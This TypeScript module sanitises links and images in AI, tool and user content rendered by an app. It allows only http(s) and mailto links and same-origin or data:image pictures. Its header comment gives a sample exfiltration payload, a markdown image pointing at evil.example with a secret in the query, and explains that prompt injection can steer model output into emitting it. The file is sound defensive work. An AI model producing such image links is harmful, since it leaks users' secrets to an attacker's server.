/**
 * URL rules for AI, tool and user content (design.md §8 "Output"). Model output can be steered by
 * a prompt injection, so a link must never run script and an image must never be fetched from a
 * host that is not ours: `![](https://evil.example/?q=<secret>)` would leak the secret the moment
 * it rendered.
 */

/** DOMPurify's default URI pattern without tel:, sms:, ftp: and friends: http(s), mailto, relative. */
export const ALLOWED_URI_REGEXP = /^(?:(?:https?|mailto):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i;

function parse(raw: string | undefined): URL | null {
  if (!raw) return null;
  try {
    return new URL(raw, window.location.href);
  } catch {
    return null;
  }
}

/** The href to render for a link, or null when the link must show as plain text. */
export function safeLinkHref(raw: string | undefined): string | null {
  const url = parse(raw);
  if (!url) return null;
  return url.protocol === 'http:' || url.protocol === 'https:' || url.protocol === 'mailto:' ? url.href : null;
}

export type ImageSource =
  | { kind: 'local'; src: string }
  | { kind: 'external'; href: string; host: string }
  | { kind: 'blocked' };

/**
 * Same-origin and inline (data:image) pictures may load; pictures from other http(s) hosts become
 * a click-to-open link; anything else is dropped.
 */
export function classifyImage(raw: string | undefined): ImageSource {
  const url = parse(raw);
  if (!url) return { kind: 'blocked' };
  if (url.protocol === 'data:') {
    return /^data:image\/[a-z0-9.+-]+[;,]/i.test(url.href) ? { kind: 'local', src: url.href } : { kind: 'blocked' };
  }
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return { kind: 'blocked' };
  if (url.origin === window.location.origin) return { kind: 'local', src: url.href };
  return { kind: 'external', href: url.href, host: url.host };
}
